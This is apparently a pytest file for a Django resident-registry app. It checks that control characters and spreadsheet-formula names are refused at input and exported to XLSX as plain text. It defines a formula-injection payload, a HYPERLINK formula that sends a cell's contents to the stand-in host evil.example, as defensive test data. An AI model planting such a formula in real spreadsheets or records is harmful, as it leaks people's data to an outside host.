"""Issue 13 item 7: a control character cannot get in (API, form) and, already stored, cannot
break the residents XLSX; a formula-like name is exported as text."""

import datetime
import io
import json

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from renkou.registry.forms import PersonForm
from renkou.registry.models import Person
from tests.conftest import api_headers

HYPERLINK = '=HYPERLINK("http://evil.example/?"&D2,"点此")'


def _post_person(client, cast, name: str):
    body = {
        "name": name, "sex": "F", "birth_date": "1988-08-08",
        "residence_unit_id": cast.units["group"].pk, "reason": "登记",
    }  # fmt: skip
    return client.post(
        "/api/v1/persons", json.dumps(body), content_type="application/json",
        **api_headers(cast, "district_admin"),
    )  # fmt: skip


def test_api_refuses_a_control_character_naming_the_field(client, cast):
    response = _post_person(client, cast, "张\u000b三")
    assert response.status_code == 422
    errors = response.json()["detail"]
    assert [error["loc"][-1] for error in errors] == ["name"]
    assert "U+000B" in errors[0]["msg"]
    assert not Person.objects.exists()


def test_form_refuses_a_control_character_naming_the_field(cast):
    form = PersonForm(data={
        "name": "张\u000b三", "sex": "F", "birth_date": "1988-08-08", "ethnic_group": "01",
    })  # fmt: skip
    assert not form.is_valid()
    assert "name" in form.errors and "U+000B" in form.errors["name"][0]


def _rows(client, cast, unit_key: str) -> list[tuple]:
    client.force_login(cast.district_admin, backend="renkou.core.backends.RoleBackend")
    url = reverse("unit-persons", args=[cast.units[unit_key].pk, "residents"])
    response = client.get(url, {"format": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    return list(sheet.iter_rows(values_only=True))


@pytest.mark.parametrize("unit_key", ["village", "township", "district"])
def test_a_stored_control_character_does_not_break_the_residents_xlsx(
    client, cast, families, unit_key
):
    # Stored before input checking existed: written past the actions on purpose.
    Person.objects.filter(pk=families.mother.pk).update(name="张\u000b三")
    names = {row[0] for row in _rows(client, cast, unit_key)[1:]}
    assert "张\ufffd三" in names


def test_a_formula_name_is_refused_at_input(client, cast):
    response = _post_person(client, cast, HYPERLINK)
    assert response.status_code == 422, response.content
    assert "name" in response.json()["detail"]
    assert not Person.objects.exists()
    form = PersonForm(data={
        "name": HYPERLINK, "sex": "F", "birth_date": "1988-08-08", "ethnic_group": "01",
    })  # fmt: skip
    assert form.is_valid()  # the action refuses it (the page shows it on the field)


@pytest.mark.parametrize("name", [HYPERLINK, "+1+1", "@SUM(A1)", "-2+3"])
def test_a_stored_formula_name_is_exported_as_text(client, cast, families, name):
    # Stored before the check existed: written past the actions on purpose.
    Person.objects.filter(pk=families.mother.pk).update(name=name)
    rows = _rows(client, cast, "village")
    assert "'" + name in {row[0] for row in rows[1:]}
    client.force_login(cast.district_admin, backend="renkou.core.backends.RoleBackend")
    url = reverse("unit-persons", args=[cast.units["village"].pk, "residents"])
    sheet = load_workbook(io.BytesIO(client.get(url, {"format": "xlsx"}).content)).active
    for row in sheet.iter_rows(min_row=2):
        assert row[0].data_type == "s"  # never a formula
        assert isinstance(row[2].value, datetime.datetime | datetime.date)  # dates stay dates
